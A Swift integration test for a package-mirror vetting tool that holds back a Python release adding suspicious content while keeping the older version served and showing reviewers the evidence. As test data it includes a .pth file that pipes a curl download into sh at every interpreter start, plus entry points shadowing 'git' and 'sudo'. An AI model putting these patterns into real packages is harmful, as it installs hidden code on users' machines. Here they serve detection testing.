import AirlockCore
import AirlockTestSupport
import Foundation
import Testing

/// Content signals inside a real sync: a mature project's new release that adds something its code
/// should not do is held, the previous release stays served, reviewers see the evidence, and an
/// approval serves it.
@Suite(.timeLimit(.minutes(10))) struct ContentVettingTests {
    @Test func aTakeoverReleaseIsHeldTheOldOneStaysServedAndReviewersSeeWhy() throws {
        let mirror = try MirrorHarness([
            PackageSpec("maturelib", "1.0"),
            PackageSpec("otherlib", "1.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\nsudo = otherlib:main\n"]),
        ])
        // Mature facts: released long ago, so the score approves; only content can hold them.
        try mirror.backdate(days: 400)
        let first = try mirror.sync(["maturelib", "otherlib"], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
        #expect(first.succeeded, "\(first.output)")
        // 2.0 adds a .pth that runs a download at every interpreter start, and a command named `git`.
        try mirror.add([
            PackageSpec(
                "maturelib", "2.0",
                extraFiles: [
                    "maturelib-startup.pth": "import os; os.system('curl -s http://127.0.0.1:9/abc | sh')\n",
                    "{distinfo}/entry_points.txt": "[console_scripts]\ngit = maturelib:main\n",
                ])
        ])
        try mirror.backdate(days: 400)
        let r = try mirror.sync([], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
        #expect(r.succeeded, "\(r.output)")
        let show = try AirlockCommand.run(["review", "show", "--data", mirror.data, "maturelib"])
        #expect(show.stdout.contains("maturelib 2.0: DENY"), "\(show.stdout)")
        #expect(show.stdout.contains("rule:content:pth_exec: maturelib-2.0-py3-none-any.whl: maturelib-startup.pth:1: runs at every Python start"), "\(show.stdout)")
        #expect(show.stdout.contains("— new since 1.0, which had no such code"), "the change is named: \(show.stdout)")
        #expect(show.stdout.contains("rule:content:shadowing_entry_point") && show.stdout.contains("entry_points.txt:2"), "\(show.stdout)")
        #expect(show.stdout.contains("maturelib 1.0: APPROVE"), "\(show.stdout)")

        let server = try mirror.serve()
        let page = try httpGet(server.base + "/simple/maturelib/").body
        #expect(page.contains("maturelib-1.0-py3-none-any.whl") && !page.contains("maturelib-2.0"), "1.0 stays served, 2.0 is held: \(page)")
        let (pip, python) = try PythonClients.pipInstall(["maturelib"], index: server.base + "/simple/", in: mirror.dir.path)
        #expect(pip.succeeded, "\(pip.output)")
        #expect(try PythonClients.python(python, "import maturelib; print(maturelib.__version__)").stdout.trimmingWhitespace() == "1.0")

        // otherlib only goes to review: it is queued, its page names the signal, member and line; approving serves it.
        let queue = try AirlockCommand.run(["review", "list", "--data", mirror.data, "--json"])
        #expect(queue.stdout.contains(#""project" : "otherlib""#), "\(queue.stdout)")
        let other = try AirlockCommand.run(["review", "show", "--data", mirror.data, "otherlib"])
        #expect(other.stdout.contains("otherlib 1.0: REVIEW") && other.stdout.contains("otherlib-1.0.dist-info/entry_points.txt:2"), "\(other.stdout)")
        // The reviewer's page in the web UI shows the same evidence.
        let token = try AirlockCommand.run(["token", "create", "--data", mirror.data, "--name", "reviewer", "--role", "reviewer"]).stdout.trimmingWhitespace()
        let jar = mirror.dir.path + "/jar"
        let form = try Subprocess.run("/usr/bin/curl", ["-s", "-c", jar, server.base + "/ui/login"]).stdout
        _ = try Subprocess.run(
            "/usr/bin/curl", ["-s", "-o", "/dev/null", "-b", jar, "-c", jar, "-d", "csrf=\(ReviewHarness.csrf(in: form) ?? "")", "-d", "token=\(token)", server.base + "/ui/login"])
        let ui = try Subprocess.run("/usr/bin/curl", ["-s", "-b", jar, server.base + "/ui/projects/pypi/otherlib"]).stdout
        #expect(ui.contains("rule:content:shadowing_entry_point") && ui.contains("otherlib-1.0.dist-info/entry_points.txt:2"), "\(ui)")
        let approved = try AirlockCommand.run(["review", "approve", "--data", mirror.data, "otherlib", "--reason", "our own tool, checked"])
        #expect(approved.succeeded, "\(approved.output)")
        try eventually("otherlib is served once approved") { try httpGet(server.base + "/simple/otherlib/").body.contains("otherlib-1.0") }
    }
}
